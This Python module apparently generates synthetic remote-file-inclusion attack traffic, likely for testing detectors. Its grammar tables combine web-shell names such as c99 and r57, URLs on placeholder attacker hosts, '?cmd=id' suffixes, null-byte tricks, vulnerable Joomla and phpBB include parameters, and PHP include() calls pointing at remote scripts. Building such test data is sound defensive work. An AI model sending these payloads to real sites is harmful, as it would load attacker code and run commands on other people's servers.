"""Remote file inclusion: a script on another host as the value of an include parameter, and the
vulnerable include paths of old PHP applications as whole paths."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "f": (
        "shell", "c99", "r57", "cmd", "evil", "id", "test", "x", "php", "inject", "‹id›", "‹rnd›",
        "‹abc›", "phpinfo", "info", "fx29id1", "safe", "respon1", "idxx", "byp", "rfi", "‹name›",
    ),
    "e": ("txt", "txt", "php", "jpg", "gif", "dat", "txt?", "png", "inc", "log", "cgi"),
    "end": (
        "?", "?", "??", "?‹abc›=", "%00", "%00.php", "?cmd=id", "?&cmd=‹id¦ls¦whoami›", "?#",
        "\x00", "?cmd=ls%20-la&", "???", "%3f", ";?",
    ),
    "dirs": (
        "", "‹id›/", "~‹name›/", "‹word›/‹word›/", "images/", "pub/", ".‹rnd›/", "wp-content/‹id›/",
        "tmp/",
    ),
    "bad": (
        "http://‹evil›/‹dirs›‹f›.‹e›‹end›", "http://‹evil›/‹dirs›‹f›.txt?",
        "https://‹evil›/‹dirs›‹f›.‹e›‹end›", "ftp://‹evil›/‹f›.‹e›‹end›",
        "http://www.‹rnd›.‹tld›/‹dirs›‹f›.‹txt¦gif¦jpg›??", "hTTp://‹evil›/‹f›.‹e›‹end›",
        "//‹evil›/‹f›.‹txt¦php›‹end›", "\\\\‹ip›\\‹f›.php", "ftp://‹name›:‹rnd›@‹evil›/‹f›.php",
        "http:%2F%2F‹evil›%2F‹f›.‹e›‹end›", "https://pastebin.com/raw/‹rand›?",
        "https://raw.githubusercontent.com/‹id›/‹id›/master/‹f›.php",
    ),
    "p": (
        "page", "file", "inc", "include", "path", "root", "dir", "basepath", "base_path",
        "phpbb_root_path", "mosConfig_absolute_path", "absolute_path", "config", "lang", "language",
        "template", "skin", "theme", "content", "module", "mod", "GLOBALS", "sbp", "site_path",
        "rootpath", "root_path", "CONFIG[path]", "_SERVER[DOCUMENT_ROOT]",
        "GLOBALS[mosConfig_absolute_path]", "libpath", "includedir", "include_path", "go", "url",
        "document", "cfg[path]", "abs_path", "pathtoroot", "full_path", "header", "footer", "view",
        "‹word›_path", "‹id›",
    ),
    "cms": (
        "/administrator/components/com_‹id›/‹id›.‹id›.php", "/components/com_‹id›/‹id›.php",
        "/modules/‹id›/‹id›.php", "/modules/mod_‹id›.php", "/includes/‹id›.inc.php",
        "/include/‹id›.php", "/lib/‹id›/‹id›.class.php", "/admin/include/‹id›.php",
        "/phpbb2/‹includes/‹id›¦admin/‹id››.php", "/plugins/‹id›/‹id›.php", "/index.php",
        "/‹word›/index.php", "/main.php", "/‹id›.php", "/wp-content/plugins/‹id›/‹id›.php",
        "/skins/‹id›/‹id›.php", "/themes/‹id›/header.php", "/‹id›/classes/‹id›.php",
        "/appserv/main.php", "/errors.php", "/zboard/include/‹id›.php", "/bbs/skin/‹id›/‹id›.php",
        "/tools/‹id›/‹id›.php", "/gallery/init.php", "/config/‹id›.php3",
        "/docs/front-end-demo/cart.php", "/language/lang_‹id›/‹id›.php", "/inc/‹id›.inc",
    ),
}

_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    script_url=(
        "‹bad›", "http://‹evil›/‹dirs›‹f›.‹txt¦php›‹end›", "http://‹evil›/‹dirs›‹f›.txt??",
        "‹bad›%00",
    ),
    include_path=(
        "‹cms›?‹p›=‹bad›", "‹cms›?‹p›=‹bad›", "‹cms›?‹id›=‹n›&‹p›=‹bad›",
        "‹cms›?‹p›=‹bad›&‹p›=‹bad›",
    ),
    joomla=(
        "/index.php?option=com_‹id›&‹mosConfig_absolute_path¦GLOBALS¦mosConfig_live_site›=‹bad›",
        "/administrator/components/com_‹id›/admin.‹id›.php?mosConfig_absolute_path=‹bad›",
        "/index2.php?_REQUEST[option]=com_content&_REQUEST[Itemid]=‹n›&GLOBALS=&mosConfig_absolute"
        "_path=‹bad›",
        "/components/com_‹id›/‹id›.html.php?mosConfig_absolute_path=‹bad›",
    ),
    pair=("‹p›=‹bad›", "?‹p›=‹bad›", "‹id›=‹n›&‹p›=‹bad›", "&‹p›=‹bad›", "‹p›[]=‹bad›"),
    include_call=(
        'include("‹bad›")', "<?php include('‹bad›');?>", "require('‹bad›');//",
        "include_once $_GET['‹abc›'];//‹bad›", '<?php @include("‹bad›"); ?>',
    ),
    share=(
        "\\\\‹ip›\\‹id›\\‹f›.php", "//‹ip›/‹id›/‹f›.php", "file://‹ip›/‹id›/‹f›.php",
        "smb://‹ip›/‹id›/‹f›.php", "\\\\‹evil›@‹SSL@443¦80›\\‹id›\\‹f›.‹php¦dll›",
        "http://‹ip›:‹port›/‹f›.php?‹cmd¦c›=‹id¦ls›",
    ),
    after_value=("‹word›.php?‹p›=‹bad›", "‹id›/‹bad›", "‹word›&‹p›=‹bad›", "‹n›;‹bad›", "../‹bad›"),
)
